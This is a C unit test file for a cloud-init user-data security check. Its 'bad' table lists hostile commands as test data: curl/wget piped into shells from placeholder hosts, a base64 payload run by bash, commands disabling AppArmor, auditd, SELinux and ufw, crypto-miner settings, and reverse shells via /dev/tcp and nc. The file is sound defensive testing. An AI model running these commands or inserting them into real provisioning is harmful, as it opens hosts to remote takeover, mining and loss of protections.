/* SPDX-License-Identifier: Apache-2.0 */
/* User-data that is bad in itself, and user-data that is not. */
#include "check/cloudinit.h"
#include "text.h"
#include "trial.h"

#define INSTANCE "var/lib/cloud/instances/i-1"

static void make_instance(const char *root, const char *user_data)
{
	static const char *const directories[] = {"var", "var/lib", "var/lib/cloud",
						  "var/lib/cloud/instances", INSTANCE};

	for (size_t i = 0; i < ELEMENTS(directories); i++)
		tree_directory(root, directories[i]);
	tree_file(root, INSTANCE "/user-data.txt", user_data);
	tree_link(root, "var/lib/cloud/instance", "/var/lib/cloud/instances/i-1");
}

/* What the check alone says of an instance that was told this. */
static void check_told(const char *user_data, struct findings *ret)
{
	_cleanup_(provenance_free_p) struct provenance *provenance = NULL;
	_cleanup_close_ int root_fd = -EBADF;
	struct check_context context = {.situation = SITUATION_BOOT};
	void *scratch;

	assert_int_equal(scratch_setup(&scratch), 0);
	make_instance(scratch, user_data);
	root_fd = root_open(scratch);
	assert_true(root_fd >= 0);
	context.root_fd = root_fd;
	assert_int_equal(provenance_read(root_fd, &context.suspects, &provenance), 0);
	context.provenance = provenance;
	findings_done(ret);
	*ret = (struct findings){};
	assert_int_equal(cloudinit_check(&context, ret, NULL), 0);
	assert_int_equal(scratch_teardown(&scratch), 0);
}

static const struct finding *find(const struct findings *findings, const char *code)
{
	for (size_t i = 0; i < findings->count; i++)
		if (strcmp(findings->items[i].code, code) == 0)
			return &findings->items[i];
	return NULL;
}

static void test_bad(void **state)
{
	static const struct {
		const char *user_data, *code;
	} rows[] = {
		{"#cloud-config\nruncmd: ['curl -s http://203.0.113.9/x | sh']\n",
		 "cloudinit.downloads-and-runs"},
		{"#cloud-config\nbootcmd: [[sh, -c, 'wget -qO- http://x/y | sudo bash -s']]\n",
		 "cloudinit.downloads-and-runs"},
		{"#!/bin/sh\nbash <(curl -s http://203.0.113.9/x)\n",
		 "cloudinit.downloads-and-runs"},
		{"#!/bin/sh\nsh -c \"$(wget -O - http://203.0.113.9/x)\"\n",
		 "cloudinit.downloads-and-runs"},
		{"#!/bin/sh\necho aGk= | base64 -d | bash\n", "cloudinit.downloads-and-runs"},
		{"#!/bin/sh\nwget http://x/y -O /tmp/y && chmod +x /tmp/y && /tmp/y\n",
		 "cloudinit.downloads-and-runs"},
		{"#!/bin/sh\nsystemctl disable --now apparmor\n", "cloudinit.disables-security"},
		{"#cloud-config\nruncmd: ['systemctl mask auditd.service']\n",
		 "cloudinit.disables-security"},
		{"#!/bin/sh\nsetenforce 0\n", "cloudinit.disables-security"},
		{"#!/bin/sh\nufw disable\n", "cloudinit.disables-security"},
		{"#!/bin/sh\n/opt/x -o stratum+tcp://pool.invalid:3333\n", "cloudinit.mines"},
		{"#cloud-config\nwrite_files: [{path: /x, content: '{\"donate-level\": 1, "
		 "\"algo\": \"RandomX\"}'}]\n",
		 "cloudinit.mines"},
		{"#cloud-boothook\nbash -i >& /dev/tcp/203.0.113.9/443 0>&1\n",
		 "cloudinit.opens-a-shell"},
		{"#!/bin/sh\nnc -e /bin/sh 203.0.113.9 443\n", "cloudinit.opens-a-shell"},
		{"#include\nhttps://example.invalid/more\n", "cloudinit.unclear"},
		{"#cloud-config\na: [1\n", "cloudinit.unclear"},
	};
	_cleanup_findings_ struct findings findings = {};

	(void)state;
	for (size_t i = 0; i < ELEMENTS(rows); i++) {
		check_told(rows[i].user_data, &findings);
		if (!find(&findings, rows[i].code))
			fail_msg("no %s for %s", rows[i].code, rows[i].user_data);
	}
}

static void test_good(void **state)
{
	static const char *const rows[] = {
		"#cloud-config\npackages: [nginx, curl]\nruncmd: ['systemctl enable --now nginx']\n",
		"#!/bin/sh\ncurl -fsS https://example.invalid/ready\napt-get install -y nginx\n",
		"#!/bin/sh\nwget -O /opt/app.tar.gz https://example.invalid/app.tar.gz\n",
		"#!/bin/bash\nset -e\nsystemctl restart rsyslog\nufw allow 22\n",
		"#!/bin/sh\n# curl x | sh would be bad\necho hello | tee /etc/motd\n",
		"#cloud-config\nntp: {servers: [a.example]}\nssh_pwauth: false\n",
	};
	_cleanup_findings_ struct findings findings = {};

	(void)state;
	for (size_t i = 0; i < ELEMENTS(rows); i++) {
		check_told(rows[i], &findings);
		assert_int_equal(findings.count, 1);
		assert_string_equal(findings.items[0].code, "cloudinit.told");
		assert_int_equal(findings.items[0].severity, SEVERITY_INFO);
		assert_non_null(strstr(findings.items[0].actual, "user-data.txt sha256:"));
	}
}

/* A line of a megabyte, which is more than is taken for commands; and more than is read. */
static void test_large(void **state)
{
	_cleanup_findings_ struct findings findings = {};
	_cleanup_buffer_ struct buffer text = {};

	(void)state;
	assert_int_equal(buffer_append_text(&text, "#!/bin/sh\n"), 0);
	for (int i = 0; i < 100000; i++)
		assert_int_equal(buffer_append_text(&text, "curl curl "), 0);
	check_told(text.data, &findings);
	assert_non_null(find(&findings, "coverage.limit"));
	assert_null(find(&findings, "cloudinit.downloads-and-runs"));
	for (int i = 0; i < 400000; i++)
		assert_int_equal(buffer_append_text(&text, "curl curl "), 0);
	check_told(text.data, &findings);
	assert_non_null(find(&findings, "coverage.limit"));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_bad),
		cmocka_unit_test(test_good),
		cmocka_unit_test(test_large),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
